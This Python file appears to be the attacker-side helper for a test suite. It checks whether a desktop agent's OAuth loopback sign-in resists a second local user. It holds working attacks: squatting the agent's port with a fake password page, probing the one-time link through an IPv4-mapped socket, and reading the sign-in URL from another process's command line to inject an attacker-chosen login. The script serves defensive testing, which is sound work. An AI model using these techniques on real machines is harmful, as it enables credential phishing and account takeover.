"""The attacker's side of tests/security/test_another_local_user.py, run as the second local user
(``tray-agent-other``, made by ``.ci/setup --system``) through ``setpriv``. Standard library only:
that user has nothing of ours but this file and the simulator's CA certificate.

    squat PORT              listen on [::1]:PORT; print "listening" (or "refused <errno name>"), then
                            answer every request with a fake password page and print its request line,
                            until stdin closes
    peek URL                GET URL (the agent's window) and print "HTTP <status> <text>"
    peek-mapped URL         the same through a dual-stack IPv6 socket to ::ffff:127.0.0.1 (listed in
                            /proc/net/tcp6, not /proc/net/tcp)
    swap PID CA EMAIL       read the sign-in address from process PID's command line, sign in at the
                            (simulated) service as EMAIL with it, and deliver the answer to the agent's
                            listener; print what happened
"""

from __future__ import annotations

import errno
import html
import re
import socket
import ssl
import sys
import threading
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit, urlunsplit


def squat(port: int) -> None:
    server = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    try:
        server.bind(("::1", port))
        server.listen(5)
    except OSError as error:
        print(f"refused {errno.errorcode.get(error.errno or 0, error.errno)}", flush=True)
        return
    print("listening", flush=True)
    server.settimeout(0.2)
    done = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), done.set()), daemon=True).start()
    while not done.is_set():
        try:
            connection, _ = server.accept()
        except TimeoutError:
            continue
        with connection:
            request = connection.recv(65536).decode("latin-1")
            print("got " + request.split("\r\n", 1)[0], flush=True)
            page = "<h1>Session expired</h1><form><input type=password name=password></form>"
            connection.sendall(
                f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\n"
                f"Connection: close\r\n\r\n{page}".encode()
            )


class _NoRedirects(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: object, **kwargs: object) -> None:
        return None


def _get(opener: urllib.request.OpenerDirector, url: str, data: bytes | None = None) -> tuple[int, str, str]:
    try:
        with opener.open(urllib.request.Request(url, data=data), timeout=15) as answer:  # noqa: S310 - http(s) only
            return answer.status, answer.headers.get("Location", ""), answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.headers.get("Location", ""), error.read().decode(errors="replace")


def swap(pid: int, ca: str, email: str) -> None:
    arguments = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
    address = next(a.decode() for a in arguments if a.startswith((b"http://", b"https://")))
    opener = urllib.request.build_opener(
        _NoRedirects, urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=ca))
    )
    if address.startswith("http://"):  # the listener's one-time link: it says where the sign-in page is
        status, address, _ = _get(opener, address)
        print(f"start link: HTTP {status}", flush=True)
    parts = urlsplit(address)
    query = {name: values[0] for name, values in parse_qs(parts.query).items()}
    query["login_hint"] = email  # "use another account" on the real page
    status, location, page = _get(opener, urlunsplit(parts._replace(query=urlencode(query))))
    if location.startswith("http://"):  # query response mode (Genesys): the code is in the redirect
        status, _, _ = _get(opener, location)
    else:  # form_post (Microsoft): the page posts the code to the listener
        action = html.unescape(re.search(r"<form[^>]*\baction='([^']*)'", page).group(1))  # type: ignore[union-attr]
        fields = {html.unescape(k): html.unescape(v) for k, v in re.findall(r"name='([^']*)' value='([^']*)'", page)}
        status, _, _ = _get(opener, action, urlencode(fields).encode())
    print(f"delivered: HTTP {status}", flush=True)


def peek(url: str) -> None:
    """GET ``url`` (the agent's window, a one-time link read from the browser's command line)."""
    opener = urllib.request.build_opener(_NoRedirects)
    try:
        with opener.open(url, timeout=10) as answer:
            status, text = answer.status, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        status, text = error.code, error.read().decode("utf-8", "replace")
    print(f"HTTP {status} {text[:80]}", flush=True)


def peek_mapped(url: str) -> None:
    """GET ``url`` (http://127.0.0.1:PORT/…) from an IPv6 socket, through the IPv4-mapped address."""
    parts = urlsplit(url)
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
        connection.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        connection.settimeout(10)
        connection.connect((f"::ffff:{parts.hostname}", parts.port))
        connection.sendall(f"GET {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode())
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    head, _, body = answer.decode("utf-8", "replace").partition("\r\n\r\n")
    print(f"HTTP {head.split()[1]} {body[:80]}", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "squat":
        squat(int(sys.argv[2]))
    elif sys.argv[1] == "peek":
        peek(sys.argv[2])
    elif sys.argv[1] == "peek-mapped":
        peek_mapped(sys.argv[2])
    else:
        swap(int(sys.argv[2]), sys.argv[3], sys.argv[4])
